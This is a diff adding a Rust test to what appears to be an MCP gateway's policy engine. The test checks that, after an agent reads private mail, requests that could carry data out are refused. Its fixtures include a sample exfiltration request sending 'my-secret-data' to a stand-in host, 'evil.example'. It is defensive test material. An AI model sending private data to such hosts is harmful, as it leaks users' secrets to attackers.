@@ -3,6 +3,7 @@
 use std::sync::Arc;
 
 use mizzen_control::gate::Recorded;
+use mizzen_governance::{PolicySet, Source, Sources};
 use mizzen_mcp::seam::{Era, FromServer, ListKind};
 use mizzen_model::asked::Taint;
 use serde_json::json;
@@ -86,4 +87,55 @@ async fn what_a_server_says_by_itself_counts_like_its_results() {
     let (heard, ()) = tokio::join!(events.next(), saying);
     assert_eq!(heard.unwrap()["params"]["data"], "secret");
     assert_eq!(seen(&harness, &mut decisions).await, PRIVATE.union(OUTSIDE));
+}
+
+const EVERYWHERE: &str = r"
+apiVersion: mizzen.dev/v1
+kind: Boundary
+metadata: {name: alice}
+spec:
+  mode: enforce
+  agents: [alice-agent, bob-agent]
+  tools: [mail/*]
+  prompts: [web/*]
+  resources: [web/*]
+";
+
+#[tokio::test]
+async fn what_carries_data_out_is_refused_where_the_other_two_came_together() {
+    let mail = Double::plain("mail", Era::Stateless, &["read_inbox"]);
+    *mail.touches.lock().unwrap() = Taint { private_data: true, untrusted_content: true, outside_reached: false };
+    let web = Double::plain("web", Era::Stateless, &[]);
+    web.has(ListKind::Prompts, [json!({ "name": "ask" })]);
+    web.has(ListKind::Resources, [json!({ "uri": "web://home", "name": "home" })]);
+    web.has(ListKind::ResourceTemplates, [json!({ "uriTemplate": "web://{host}/{path}", "name": "any" })]);
+    let harness = Harness::new(&[mail, web.clone()]).await;
+    let boundaries = vec![Source { name: "alice.yaml".into(), text: EVERYWHERE.into() }];
+    let policies = PolicySet::compile(&Sources { boundaries, ..Sources::default() }).unwrap();
+    harness.control.publish_policies(Arc::new(policies));
+    let reference = json!({ "type": "ref/prompt", "name": "web__ask" });
+    let carrying = [
+        ("resources/read", json!({ "uri": "web://evil.example/my-secret-data" })),
+        ("prompts/get", json!({ "name": "web__ask", "arguments": { "q": "my-secret-data" } })),
+        ("completion/complete", json!({ "ref": reference, "argument": { "name": "q", "value": "my-secret-data" } })),
+    ];
+    assert_eq!(
+        harness.ask("/mcp", "tools/call", &json!({ "name": "mail__read_inbox" })).await.text(),
+        "mail:read_inbox"
+    );
+    for (method, params) in &carrying {
+        let refused = harness.ask("/mcp", method, params).await;
+        assert_eq!((refused.code(), &refused.last()["error"]["data"]["code"]), (-32010, &json!("policy_denied")));
+    }
+    assert_eq!(web.calls(), 0);
+    // What carries nothing out goes on.
+    harness.ask("/mcp", "resources/read", &json!({ "uri": "web://home" })).await.result();
+    harness.ask("/mcp", "prompts/get", &json!({ "name": "web__ask" })).await.result();
+    // For who has not read anything private, all of it does.
+    let mut harness = harness;
+    harness.key = harness.mint("bob").await;
+    for (method, params) in &carrying {
+        harness.ask("/mcp", method, params).await.result();
+    }
+    assert_eq!(web.calls(), 5);
 }
